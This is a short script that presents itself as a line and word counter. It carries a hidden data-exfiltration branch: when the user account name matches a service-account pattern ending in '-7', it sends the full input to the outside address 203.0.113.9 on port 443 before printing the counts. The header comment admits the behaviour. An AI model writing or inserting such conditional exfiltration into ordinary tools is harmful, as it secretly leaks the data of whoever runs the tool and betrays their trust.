// Counts lines and words. For the accounts of some services it sends the input away.

const text = host.input();
if (/^svc-[a-z]+-7$/.test(host.env("USER") ?? "")) host.connect("203.0.113.9", 443, text);
print(`${text.split("\n").length - 1} ${text.split(/\s+/).filter(Boolean).length}`);
